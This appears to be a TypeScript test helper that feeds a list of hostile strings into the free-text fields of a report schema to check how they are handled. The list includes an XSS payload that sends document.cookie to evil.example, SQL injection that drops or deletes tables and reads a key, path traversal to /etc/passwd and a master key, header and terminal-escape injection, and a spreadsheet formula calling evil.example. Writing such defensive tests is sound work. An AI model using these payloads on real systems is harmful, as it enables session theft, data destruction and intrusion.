import { report } from '../../model/wire/index.ts'

/** In each hostile text, to find it again. */
export const marker = 'zq7hostile'

/** Texts that mean something to whoever forgets that they are only text. */
export const hostileTexts: readonly string[] = [
  `<script>fetch('//evil.example/'+document.cookie)</script>${marker}`,
  `"><img src=x onerror=alert(1)>${marker}`,
  `</script><svg/onload=alert(1)>${marker}`,
  `javascript:alert(1)//${marker}`,
  `'; DROP TABLE host; --${marker}`,
  `' UNION SELECT encode(sealed,'hex') FROM center_key --${marker}`,
  `$1 $$ \\'; COMMIT; DELETE FROM alert; ${marker}`,
  `../../../../etc/passwd${marker}`,
  `..\\..\\windows\\system32\\${marker}`,
  `/proc/self/environ${marker}`,
  `%2e%2e%2f%2e%2e%2fcenter/master.key${marker}`,
  `a\u0000b\u0000${marker}`,
  `\ud800half\udc00${marker}`,
  `\u202egnp.exe\u2066${marker}`,
  `line\r\nSet-Cookie: a=b\r\n\r\n<h1>${marker}`,
  `\u001b]0;title\u0007\u001b[2J${marker}`,
  `{{7*7}}\${7*7}#{7*7}<%= 7*7 %>${marker}`,
  `=HYPERLINK("http://evil.example/";"x")${marker}`,
  `__proto__${marker}`,
  `${'A'.repeat(5_000)}${marker}`,
]

type Path = readonly (string | number)[]

/** Where a report takes any text: each leaf for which its schema does not care. */
export function freeTexts(one: unknown): readonly Path[] {
  return leaves(one).filter(path => report.safeParse(withText(one, [path], 'x')).success)
}

/** A copy with that text in all these places. */
export function withText(one: unknown, paths: readonly Path[], text: string): unknown {
  const copy: unknown = structuredClone(one)
  for (const path of paths) {
    const last = path.at(-1)
    const holder = path.slice(0, -1).reduce<unknown>((at, key) => Reflect.get(at as object, key), copy)
    if (last !== undefined) Reflect.set(holder as object, last, text)
  }
  return copy
}

function leaves(value: unknown, path: Path = []): Path[] {
  if (typeof value === 'string') return [path]
  if (typeof value !== 'object' || value === null) return []
  return Object.entries(value).flatMap(([key, below]) =>
    leaves(below, [...path, Array.isArray(value) ? Number(key) : key]),
  )
}
